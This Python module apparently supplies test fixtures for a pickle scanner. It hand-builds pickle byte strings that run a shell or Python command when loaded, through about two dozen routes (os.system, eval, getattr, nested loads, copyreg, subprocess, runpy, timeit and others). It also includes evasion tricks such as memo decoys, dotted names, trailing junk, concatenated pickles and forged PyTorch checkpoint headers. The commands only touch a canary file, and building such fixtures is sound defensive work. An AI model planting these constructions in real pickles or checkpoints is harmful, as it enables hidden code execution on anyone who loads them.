"""Pickles that would run code, each by another road, written instruction by instruction.

Every builder takes the path of a canary, a file that appears if the code ran,
and returns the bytes. ``PICKLES`` needs nothing but CPython to fire.
"""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable
from pathlib import Path

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _short(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _touch(canary: Path) -> str:
    return f"touch '{canary}'"


def _touch_in_python(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def by_global(canary: Path) -> bytes:
    return b"\x80\x02cposix\nsystem\n" + _text(_touch(canary)) + b"\x85R."


def by_protocol_0(canary: Path) -> bytes:
    return b"cos\nsystem\n(V" + _touch(canary).encode() + b"\ntR."


def by_stack_global(canary: Path) -> bytes:
    return b"\x80\x04" + _short("posix") + _short("system") + b"\x93" + _text(_touch(canary)) + b"\x85R."


def by_inst(canary: Path) -> bytes:
    return b"(S" + repr(_touch(canary)).encode() + b"\nios\nsystem\n."


def by_obj(canary: Path) -> bytes:
    return b"(cos\nsystem\n" + _text(_touch(canary)) + b"o."


def by_eval(canary: Path) -> bytes:
    return b"\x80\x02c__builtin__\neval\n" + _text(_touch_in_python(canary)) + b"\x85R."


def by_memo(canary: Path) -> bytes:
    """The two strings lie in the memo and are fetched from there, among decoys."""
    put = _text("os") + b"q\x010" + _text("torch") + b"q\x020" + _text("system") + b"q\x030"
    return b"\x80\x04" + put + b"h\x01h\x03\x93" + _text(_touch(canary)) + b"\x85R."


def by_dotted_name(canary: Path) -> bytes:
    """An innocent module, and an attribute of it that leads elsewhere."""
    return b"\x80\x04" + _short("shutil") + _short("os.system") + b"\x93" + _text(_touch(canary)) + b"\x85R."


def by_computed_name(canary: Path) -> bytes:
    """The name of the global is what a call returns."""
    spelled = b"cbuiltins\nstr\nC\x05posixX\x05\x00\x00\x00ascii\x86R"
    return b"\x80\x04" + spelled + _short("system") + b"\x93" + _text(_touch(canary)) + b"\x85R."


def by_extension(canary: Path) -> bytes:
    """It registers an extension code for the function, then calls the code."""
    register = b"ccopyreg\nadd_extension\n" + _text("posix") + _text("system") + b"M\x2c\x01\x87R0"
    return b"\x80\x02" + register + b"\x83\x2c\x01" + _text(_touch(canary)) + b"\x85R."


def by_getattr(canary: Path) -> bytes:
    imported = b"cbuiltins\n__import__\n" + _text("os") + b"\x85R"
    return b"\x80\x02cbuiltins\ngetattr\n" + imported + _text("system") + b"\x86R" + _text(_touch(canary)) + b"\x85R."


def by_nested_pickle(canary: Path) -> bytes:
    inner = by_global(canary)
    return b"\x80\x04c_pickle\nloads\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


def by_partial_state(canary: Path) -> bytes:
    """An empty partial, filled through BUILD, then called."""
    partial = b"cfunctools\npartial\ncbuiltins\nlen\n\x85R"
    state = b"(cposix\nsystem\n" + _text(_touch(canary)) + b"\x85}Nt"
    return b"\x80\x02" + partial + state + b"b)R."


def by_methodcaller(canary: Path) -> bytes:
    caller = b"coperator\nmethodcaller\n" + _text("system") + _text(_touch(canary)) + b"\x86R"
    return b"\x80\x02" + caller + b"cimportlib\nimport_module\n" + _text("os") + b"\x85R\x85R."


def by_run_code(canary: Path) -> bytes:
    return b"\x80\x02crunpy\n_run_code\n" + _text(_touch_in_python(canary)) + b"}\x86R."


def by_pager(canary: Path) -> bytes:
    return b"\x80\x02cpydoc\npipepager\n" + _text("") + _text(_touch(canary)) + b"\x86R."


def by_timer(canary: Path) -> bytes:
    return b"\x80\x02ctimeit\ntimeit\n" + _text("pass") + _text(_touch_in_python(canary)) + b"\x86R."


def by_subprocess_class(canary: Path) -> bytes:
    words = b"]" + b"(" + _text("touch") + _text(str(canary)) + b"e"
    return b"\x80\x02csubprocess\ncheck_call\n" + words + b"\x85R."


def by_module_state(canary: Path) -> bytes:
    """BUILD on a module changes what a later name in it means."""
    module = b"\x80\x04" + _text("importlib") + _text("machinery") + b"\x93"
    state = b"}" + _text("nothing") + _text("x") + b"sb0"
    return module + state + by_global(canary)[2:]


def before_it_breaks(canary: Path) -> bytes:
    """The code runs, and then the pickle turns out to be damaged."""
    return by_global(canary)[:-1] + b"0X\xff\xff\xff\x7f"


def before_stray_bytes(canary: Path) -> bytes:
    return by_global(canary) + b"\n\n\t\xff\xfe"


def within_a_state_dict(canary: Path) -> bytes:
    """A harmless dictionary on top, the call underneath."""
    return b"\x80\x02cposix\nsystem\n" + _text(_touch(canary)) + b"\x85R0}" + _text("epoch") + b"K\x05s."


PICKLES: dict[str, Callable[[Path], bytes]] = {
    builder.__name__: builder
    for builder in (
        by_global, by_protocol_0, by_stack_global, by_inst, by_obj, by_eval, by_memo, by_dotted_name,
        by_computed_name, by_extension, by_getattr, by_nested_pickle, by_partial_state, by_methodcaller, by_run_code,
        by_pager, by_timer, by_subprocess_class, by_module_state, before_it_breaks, before_stray_bytes,
        within_a_state_dict,
    )
}  # fmt: skip


def second_of_two(canary: Path) -> bytes:
    """Harmless to whoever reads one pickle; a reader of two runs the second."""
    return pickle.dumps([1, 2, 3]) + by_global(canary)


def legacy_checkpoint(canary: Path) -> bytes:
    """The layout of PyTorch before 1.6, with the code where the state dict would be."""
    head = pickle.dumps(LEGACY_MAGIC, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    return head + by_global(canary) + pickle.dumps([], 2)


def legacy_with_forged_magic(canary: Path) -> bytes:
    """The magic number is not written but computed, so that whoever looks for it does not see it."""
    forged = b"\x80\x02c__builtin__\neval\n" + _text(hex(LEGACY_MAGIC)) + b"\x85R."
    rest = pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + by_global(canary)
    return forged + rest + pickle.dumps([], 2)
